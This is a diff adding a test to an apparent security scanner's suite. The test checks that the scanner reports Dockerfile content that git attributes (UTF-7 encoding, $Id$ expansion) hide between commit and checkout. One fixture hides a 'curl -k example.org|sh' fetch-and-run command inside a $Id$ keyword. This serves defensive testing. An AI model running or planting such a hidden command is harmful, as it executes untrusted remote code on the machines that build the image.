@@ -74,6 +74,24 @@ describe.each(scanners)('%s', (scanner) => {
     expect((await runAction(scanner, { workspace: repository.path, environment: allowed })).exitCode).toBe(2);
   });
 
+  test.each([
+    ['an encoding', 'working-tree-encoding=UTF-7', insecure],
+    ['`$Id$`', 'ident', `FROM scratch\nRUN true $Id:;curl\t-k\texample.org|sh;#$\n`],
+  ])('sees a text that the commit has and the checkout hides by %s', async (_, attribute, text) => {
+    repository.commit({ Dockerfile: text });
+    repository.put('.gitattributes', `Dockerfile ${attribute}\n`);
+    // Only this file: git would take the other anew, by its attributes.
+    repository.git('add', '.gitattributes');
+    repository.git('commit', '-q', '-m', 'attributes');
+    const head = repository.git('rev-parse', 'HEAD');
+    rmSync(join(repository.path, 'Dockerfile'));
+    repository.git('checkout', '-q', '--', '.');
+    expect(readFileSync(join(repository.path, 'Dockerfile'), 'utf8')).not.toBe(text);
+    const run = await runAction(scanner, { workspace: repository.path, environment: pullRequest(head), inputs: { 'fail-on': 'none' } });
+    // It holds another text, or git itself has compared it once more and calls it edited.
+    expect([run.exitCode, run.stdout]).toEqual([2, expect.stringContaining('::error file=Dockerfile::Not looked at: the commit h')]);
+  });
+
   test('a person’s unfinished edits are no gap', async () => {
     repository.put('Dockerfile', 'FROM scratch\nUSER 1000\n');
     expect((await runCli([scanner, '.', '--fail-on', 'critical'], { workspace: repository.path })).exitCode).toBe(0);
